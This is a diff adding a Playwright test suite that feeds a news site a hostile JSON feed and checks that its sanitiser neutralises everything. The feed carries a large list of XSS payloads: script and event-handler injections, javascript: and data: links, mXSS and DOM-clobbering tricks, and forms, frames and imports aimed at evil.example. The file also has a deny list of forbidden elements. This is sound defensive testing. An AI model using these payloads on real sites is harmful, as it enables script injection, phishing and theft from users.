@@ -1,0 +1,250 @@
+// @ts-check
+/** A feed that wants to run something: every field of it carries markup, scripts or addresses that no page may follow. */
+import { expect, test } from './support/test.mjs';
+import { h1, jsonLd, main, open, openFront } from './support/reading.mjs';
+import { PICTURE, config, feed, story } from './support/feeds.mjs';
+
+const EVIL = 'https://evil.example';
+
+/** Runs if a field is ever taken for markup. */
+const MARKUP = (/** @type {string} */ name) =>
+  `"'><img src=x onerror="window.__hit='${name}'"><svg onload="window.__hit='${name}'"></svg><script>window.__hit='${name}'</script>`;
+
+/** Vectors that a body may carry, one to a line. */
+const VECTORS = `
+<script>window.__hit='script'</script><script src="${EVIL}/x.js"></script>
+<SCRIPT/src="${EVIL}/y.js"></SCRIPT><scr<script>ipt>window.__hit='nested'</scr</script>ipt>
+<img src="picture.svg" onerror="window.__hit='onerror'" onload="window.__hit='onload'" alt="A" style="position:fixed" id="say" name="getElementById">
+<img src="javascript:window.__hit='img'" alt="B"><img src="data:text/html,<script>window.__hit=1</script>" alt="C">
+<img name="querySelector" src="picture.svg" alt="D"><img name="body" src="picture.svg" alt="E"><img name="head" src="picture.svg" alt="F">
+<svg onload="window.__hit='svg'"><script>window.__hit='svg script'</script><a xlink:href="javascript:window.__hit='xlink'"><text>svg link</text></a><image href="${EVIL}/i.svg"/><use href="${EVIL}/u.svg#x"/><animate onbegin="window.__hit='begin'" attributeName="x" dur="1s"/><foreignObject><iframe src="${EVIL}/f"></iframe></foreignObject></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hit='mxss'&gt;"></mglyph></table></mtext><a href="javascript:window.__hit='math'">math</a></math>
+<iframe src="${EVIL}/frame"></iframe><iframe src="javascript:window.__hit='iframe'"></iframe><iframe srcdoc="<script>parent.__hit='srcdoc'</script>"></iframe><iframe src="https://www.youtube.com.evil.example/embed/aaaaaaaaaaa"></iframe><iframe src="//www.youtube-nocookie.com@evil.example/embed/aaaaaaaaaaa"></iframe>
+<form action="${EVIL}/login" id="dateline"><input name="password" autofocus onfocus="window.__hit='focus'"><button formaction="javascript:window.__hit='formaction'">Sign in</button></form>
+<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/p">
+<style>@import "${EVIL}/s.css"; body{display:none!important}</style><p style="background:url(${EVIL}/bg);position:fixed;inset:0" class="recovery" onclick="window.__hit='click'" onmouseover="window.__hit='over'">styled</p>
+<object data="${EVIL}/o"></object><embed src="${EVIL}/e"><applet code="x"></applet><video src="${EVIL}/v" poster="${EVIL}/poster" autoplay onerror="window.__hit='video'"><source src="${EVIL}/v2" onerror="window.__hit='source'"></video><audio src="${EVIL}/a" autoplay></audio>
+<a href="javascript:window.__hit='a'">one</a> <a href=" &#1;java&#x0A;script:window.__hit='a2'">two</a> <a href="JaVaScRiPt&colon;window.__hit='a3'">three</a> <a href="data:text/html,<script>window.__hit=1</script>">four</a> <a href="vbscript:x">five</a> <a href="blob:${EVIL}/x">six</a> <a href="https://user:secret@evil.example/">seven</a> <a href="//evil.example/relative" ping="${EVIL}/ping" target="_top" onclick="window.__hit='onclick'" id="datelineBoot">eight</a> <a href="mailto:desk@paper.example">nine</a>
+<template><img src=x onerror="window.__hit='template'"></template><noscript><p title="</noscript><img src=x onerror=window.__hit='noscript'>"></noscript><textarea><img src=x onerror=window.__hit='textarea'></textarea><title><img src=x onerror=window.__hit='title'></title><xmp><img src=x onerror=window.__hit='xmp'></xmp>
+<details open ontoggle="window.__hit='toggle'"><summary>more</summary>text</details><dialog open>dialog</dialog><marquee onstart="window.__hit='marquee'">m</marquee><div contenteditable onfocus="window.__hit='ce'" tabindex="0" autofocus accesskey="x">ce</div>
+<table background="${EVIL}/t"><tr><td onclick="window.__hit='td'" background="${EVIL}/td">cell</td></tr></table>
+<blockquote cite="javascript:window.__hit='cite'" onclick="window.__hit='quote'">quoted</blockquote><p>&lt;img src=x onerror=window.__hit='decoded'&gt;</p><p>&amp;lt;script&amp;gt;window.__hit='twice'&amp;lt;/script&amp;gt;</p>
+<custom-element onclick="window.__hit='custom'" is="x">custom</custom-element><p slot="x" part="y" popover popovertarget="main">slot</p><p>the last words of the story</p>`;
+
+/** Words that the story has besides, so that it is known to be there. */
+const LAST_WORDS = 'the last words of the story';
+
+const HOSTILE = story(1, {
+  id: MARKUP('id'),
+  url: "javascript:window.__hit='url'",
+  external_url: "javascript:window.__hit='external'",
+  title: `</script><script>window.__hit='title'</script> ${MARKUP('title')} Headline`,
+  summary: `${MARKUP('summary')} Standfirst`,
+  content_html: VECTORS,
+  image: 'picture.svg',
+  banner_image: "javascript:window.__hit='banner'",
+  authors: [
+    { name: MARKUP('author'), url: "javascript:window.__hit='author url'", _role: MARKUP('role') },
+    { name: 'Data', url: "data:text/html,<script>window.__hit='data'</script>" },
+  ],
+  tags: [MARKUP('tag'), '</title><script>window.__hit=1</script>'],
+  language: '"><script>window.__hit=1</script>',
+  _dateline: {
+    slug: '../../evil"><script>',
+    section: { id: '"><script>', name: MARKUP('section') },
+    kicker: MARKUP('kicker'),
+    place: MARKUP('place'),
+    breaking: true,
+    featured: true,
+    image: {
+      width: 1200,
+      height: 800,
+      alt: MARKUP('alt'),
+      caption: MARKUP('caption'),
+      credit: MARKUP('credit'),
+      credit_url: "javascript:window.__hit='credit url'",
+      focus: ['50%;background:url(//evil.example)', 'x'],
+      srcset: [{ url: "javascript:window.__hit='srcset'", width: 640 }, { url: 'picture.svg, https://evil.example/x', width: 320 }],
+    },
+    corrections: [{ date: '2023-09-17T18:05:00Z', text: MARKUP('correction') }],
+    related: ['__proto__', 'constructor', 'story-2'],
+  },
+});
+
+/** The story's page, whatever its slug came to. @param {import('@playwright/test').Page} page */
+const hostileLink = (page) => main(page).getByRole('link', { name: /Headline$/ }).first();
+
+/** Elements that no story may have. */
+const FORBIDDEN =
+  'script, style, iframe, frame, frameset, object, embed, applet, form, input, textarea, select, base, meta, link, template, noscript, math, video, audio, source[src], track, dialog, details, marquee, portal, title, xmp, slot, [contenteditable], custom-element';
+
+/** Attributes that our own elements have. */
+const ALLOWED = new Set(
+  'class id href rel type alt src srcset sizes width height loading decoding fetchpriority referrerpolicy style role tabindex dir lang datetime scope colspan rowspan data-open-display'.split(' '),
+);
+
+test.describe('a feed full of markup and scripts', () => {
+  /** @type {string[]} */
+  let outside;
+  /** @type {string[]} */
+  let dialogs;
+  /** @type {string} */
+  let address;
+
+  test.beforeEach(async ({ page, context, site, complaints }) => {
+    complaints.expect(/0 of 3 stories were skipped, \d+ fields were dropped/);
+    [outside, dialogs] = [[], []];
+    context.on('request', (request) => {
+      const { protocol, hostname } = new URL(request.url());
+      if (protocol !== 'data:' && hostname !== '127.0.0.1') outside.push(request.url());
+    });
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const { url } = await site({
+      config: config(),
+      files: { 'picture.svg': PICTURE, 'feed.json': feed([HOSTILE, story(2), story(3)], { title: MARKUP('feed'), icon: 'javascript:1' }) },
+      fallbackStatus: 200,
+    });
+    address = url;
+    await openFront(page, url, 'Herald');
+  });
+
+  test.afterEach(async ({ page }) => {
+    expect(await page.evaluate(() => /** @type {any} */ (window).__hit ?? null), 'something ran').toBeNull();
+    expect(dialogs).toEqual([]);
+    expect(outside).toEqual([]);
+    expect(new URL(page.url()).origin).toBe(new URL(address).origin);
+    expect(page.frames()).toHaveLength(1);
+    const links = await page.evaluate(() => [...document.links].map((link) => link.protocol));
+    expect(links.filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol))).toEqual([]);
+  });
+
+  /** @param {import('@playwright/test').Page} page */
+  async function openStory(page) {
+    await hostileLink(page).click();
+    await expect(h1(page, /Headline$/)).toBeFocused();
+  }
+
+  /**
+   * Everything in `<main>` that should not be there.
+   * @param {import('@playwright/test').Page} page
+   */
+  const intruders = (page) =>
+    main(page).evaluate(
+      (place, { forbidden, allowed }) => {
+        const found = [...place.querySelectorAll(forbidden)].map((element) => `<${element.localName}>`);
+        for (const element of place.querySelectorAll('*')) {
+          if (element.closest('svg.icon')) continue;
+          if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${element.nodeName}>`);
+          for (const { name, value } of element.attributes) {
+            if (!allowed.includes(name) && !name.startsWith('aria-')) found.push(`${element.localName} ${name}=${value}`);
+            if (name === 'style' && !/^((aspect-ratio|--focus): [\d.%/ ]+;? ?)*$/.test(value)) found.push(`style ${value}`);
+            if (name === 'id' && !/^(top|below|rest|latest|corr|topics|rel|lat|next|strip)-(h|\d+)$/.test(value)) found.push(`id ${value}`);
+            if (name === 'class' && /recovery|evil/.test(value)) found.push(`class ${value}`);
+            if (/^(href|src)$/.test(name) && /^\s*(javascript|vbscript|data|blob):/i.test(value)) found.push(`${name} ${value}`);
+          }
+        }
+        return found;
+      },
+      { forbidden: FORBIDDEN, allowed: [...ALLOWED] },
+    );
+
+  test('nothing of it runs on the front page, and it is all text', async ({ page }) => {
+    await expect(hostileLink(page)).toBeVisible();
+    await expect(page.getByRole('region', { name: 'Breaking news' }).getByRole('link')).toHaveText(/Headline$/);
+    expect(await intruders(page)).toEqual([]);
+  });
+
+  test('nothing of it runs in the story, and nothing forbidden is in its page', async ({ page }) => {
+    await openStory(page);
+    await expect(main(page).getByText(LAST_WORDS)).toBeVisible();
+    await expect(main(page).getByText('quoted')).toBeVisible();
+    await expect(main(page).getByRole('cell', { name: 'cell' })).toBeVisible();
+    expect(await intruders(page)).toEqual([]);
+    await expect(main(page).getByText("<img src=x onerror=window.__hit='decoded'>")).toBeVisible();
+    await expect(main(page).getByText("<script>window.__hit='twice'</script>")).toHaveCount(0);
+  });
+
+  test('links with an address that can be followed stay, the others lose it', async ({ page }) => {
+    await openStory(page);
+    const text = main(page).getByRole('article').first();
+    await expect(text.getByRole('link', { name: 'nine' })).toHaveAttribute('href', 'mailto:desk@paper.example');
+    await expect(text.getByRole('link', { name: 'eight' })).toHaveAttribute('href', /^https?:\/\/evil\.example\/relative$/);
+    await expect(text.getByRole('link', { name: 'eight' })).not.toHaveAttribute('target');
+    for (const name of ['one', 'two', 'three', 'four', 'five', 'six', 'seven']) {
+      await expect(text.getByRole('link', { name, exact: true }), name).toHaveCount(0);
+      await expect(text.getByText(name).first(), `the words of ${name}`).toBeVisible();
+    }
+  });
+
+  test('pressing everything that can be pressed in it runs nothing', async ({ page }) => {
+    await openStory(page);
+    for (const words of ['one', 'two', 'three', 'four', 'styled', 'cell', 'quoted', 'custom']) {
+      await main(page).getByText(words, { exact: true }).first().click();
+    }
+    await expect(h1(page, /Headline$/)).toBeVisible();
+  });
+
+  test('the structured data stays data', async ({ page }) => {
+    await openStory(page);
+    const data = await jsonLd(page);
+    expect(data['@type']).toBe('NewsArticle');
+    expect(data.headline).toBe(await page.getByRole('heading', { level: 1 }).textContent());
+    expect(data.author.map((/** @type {any} */ author) => author.url).filter(Boolean)).toEqual([]);
+    const scripts = await page.evaluate(() => [...document.scripts].filter((script) => /__hit/.test(script.textContent ?? '') && script.type !== 'application/ld+json').length);
+    expect(scripts).toBe(0);
+  });
+
+  test('it takes no name of the page’s own, and the site works on', async ({ page }) => {
+    await openStory(page);
+    expect(
+      await page.evaluate(() => [typeof document.getElementById, typeof document.querySelector, document.body.localName, document.head.localName, typeof (/** @type {any} */ (window).datelineBoot)]),
+    ).toEqual(['function', 'function', 'body', 'head', 'object']);
+    await expect(page.locator('#say')).toHaveCount(1);
+    await main(page).getByRole('link', { name: 'Story number 2', exact: true }).first().click();
+    await expect(h1(page, 'Story number 2')).toBeFocused();
+    await page.goBack();
+    await expect(h1(page, /Headline$/)).toBeVisible();
+  });
+
+  test('its section and its topic are pages like any other', async ({ page }) => {
+    await openStory(page);
+    const topic = main(page).getByRole('region', { name: 'Topics' }).getByRole('link').first();
+    const address = await topic.evaluate((link) => /** @type {HTMLAnchorElement} */ (link).pathname);
+    expect(address).toMatch(/^\/topic\/[^/]+$/);
+    await topic.click();
+    await expect(hostileLink(page)).toBeVisible();
+    expect(await intruders(page)).toEqual([]);
+    await open(page, page.url(), /./);
+    await expect(hostileLink(page)).toBeVisible();
+  });
+});
+
+test('no address of a feed is taken from the page’s own address', async ({ page, site }) => {
+  const server = await site({ fallbackStatus: 200 });
+  await openFront(page, `${server.url}?url=https://evil.example/feed.json&feed=/evil.json&source=/evil.json&sources=/evil.json#/evil.json`);
+  expect(server.requests.filter(({ path }) => path.includes('evil'))).toEqual([]);
+});
+
+test('the page’s policy allows no inline script, no eval and no foreign script', async ({ page, site, complaints }) => {
+  complaints.expect(/policy: script-src-elem inline/, /console error: .*(inline script|Content Security Policy)/, /policy: script-src eval|EvalError|unsafe-eval|policy: require-trusted-types-for/);
+  const { url } = await site();
+  await openFront(page, url);
+  const ran = await page.evaluate(() => {
+    const script = document.createElement('script');
+    try {
+      script.appendChild(document.createTextNode('window.__hit = 1'));
+      document.head.appendChild(script);
+    } catch {}
+    try {
+      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__hit = 2">');
+    } catch {}
+    try {
+      (0, eval)('window.__hit = 3');
+    } catch {}
+    return /** @type {any} */ (window).__hit ?? null;
+  });
+  expect(ran).toBeNull();
+});
